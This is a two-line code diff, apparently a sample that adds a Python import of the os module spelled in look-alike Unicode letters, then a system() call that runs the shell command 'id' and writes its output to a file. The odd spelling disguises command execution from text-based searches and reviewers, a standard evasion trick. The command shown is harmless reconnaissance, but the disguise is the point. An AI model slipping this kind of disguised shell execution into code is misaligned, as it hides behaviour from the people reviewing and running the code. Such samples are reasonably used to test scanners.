@@ -1,0 +1,2 @@
+import json, 𝓸𝓼 as x
+x.system("id>pf")
